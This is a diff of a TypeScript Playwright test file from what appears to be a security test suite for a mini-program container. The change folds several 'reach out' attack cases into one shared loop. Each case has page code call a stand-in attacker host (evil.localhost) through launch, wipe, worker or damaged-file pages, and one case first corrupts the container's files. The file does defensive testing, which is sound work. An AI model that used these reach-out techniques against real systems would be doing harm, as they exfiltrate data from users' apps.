@@ -1,7 +1,7 @@
 // Mini-programs that turn on what delivers them: frames of their own origin, their cache, their worker, their launch page, their
 // gate. Nothing unverified may run, and the next launch is whole.
 import type { BrowserContext, Frame } from 'playwright-core';
-import { endOf, type InProduct, inPlain, inProduct, relaunch, sleep } from '../both-sides.ts';
+import { endOf, type InProduct, inPlain, inProduct, once, relaunch, sleep } from '../both-sides.ts';
 import type { DrivenAttack } from '../driven-attack.ts';
 import type { World } from '../world.ts';
 
@@ -17,35 +17,46 @@ async function isWhole(world: World, one: InProduct): Promise<string | null> {
   return menu === 'right' ? null : `the next launch runs other files: ${menu}`;
 }
 
-const reach = (
-  id: string,
-  title: string,
-  path: string,
-  before: (frame: Frame) => Promise<void> = async () => {},
-): DrivenAttack => {
-  const attempt = async (world: World, frame: Frame): Promise<string | null> => {
+/** Each in a frame of its own. What damages its files comes last. */
+const WAYS_OUT = [
+  ['script-launch', 'Opens its launch page and reaches out through it', '/.container/launch.html'],
+  ['script-missing', 'Opens a page that is not there and reaches out through it', '/nothing/here'],
+  ['script-wipe', 'Opens its wipe page and reaches out through it', '/.container/wipe'],
+  ['script-worker', 'Opens the worker’s script as a page and reaches out through it', '/.container/sw.js'],
+  ['script-damaged', 'Damages its files, opens one and reaches out through it', '/silent.html'],
+] as const;
+
+/** By attack: what arrived. */
+async function reachOut(world: World, frame: Frame, damage: () => Promise<void>): Promise<Map<string, string | null>> {
+  const got = new Map<string, string | null>();
+  for (const [id, , path] of WAYS_OUT) {
+    if (id === 'script-damaged') await damage();
     const { tcpPort, arrivals } = await world.evil.open(false);
     await frame.evaluate(([page, evil]) => attacker.deliveries.reachThrough(page, evil), [
       path,
       `http://${id}.evil.localhost:${tcpPort}`,
     ] as const);
-    return arrivals.at(-1) ?? null;
-  };
-  return {
+    got.set(id, arrivals.at(-1) ?? null);
+  }
+  return got;
+}
+const reachedPlain = once((world) => inPlain(world, 'app.plain', (frame) => reachOut(world, frame, async () => {})));
+const reachedDefended = once((world) =>
+  inProduct(world, ({ frame }) => reachOut(world, frame, () => frame.evaluate(() => attacker.deliveries.drop()))),
+);
+const SCRIPTED = WAYS_OUT.map(
+  ([id, title]): DrivenAttack => ({
     id,
     title,
     threat: 'T113',
     group,
     control: 'the same addresses without headers',
     run: async (world) => ({
-      control: await inPlain(world, 'app.plain', (frame) => attempt(world, frame)),
-      defended: await inProduct(world, async ({ frame }) => {
-        await before(frame);
-        return attempt(world, frame);
-      }),
+      control: (await reachedPlain(world)).get(id) ?? null,
+      defended: (await reachedDefended(world)).get(id) ?? null,
     }),
-  };
-};
+  }),
+);
 
 /** The container's worker, with the id that the attacker wants. */
 async function registered(profile: BrowserContext, ms: number): Promise<string | null> {
@@ -270,13 +281,8 @@ const talk = (id: string, title: string, name: 'greetGate' | 'askForOrders'): Dr
   };
 };
 
-const drop = (frame: Frame): Promise<void> => frame.evaluate(() => attacker.deliveries.drop());
 export const DELIVERY: readonly DrivenAttack[] = [
-  reach('script-launch', 'Opens its launch page and reaches out through it', '/.container/launch.html'),
-  reach('script-missing', 'Opens a page that is not there and reaches out through it', '/nothing/here'),
-  reach('script-damaged', 'Damages its files, opens one and reaches out through it', '/silent.html', drop),
-  reach('script-wipe', 'Opens its wipe page and reaches out through it', '/.container/wipe'),
-  reach('script-worker', 'Opens the worker’s script as a page and reaches out through it', '/.container/sw.js'),
+  ...SCRIPTED,
   goToLaunch('query', 'Goes to its launch page with a version of its own in the query'),
   goToLaunch('fragment', 'Goes to its launch page with a version of its own in the fragment'),
   goToLaunch('name', 'Goes to its launch page with a version of its own in the window’s name'),
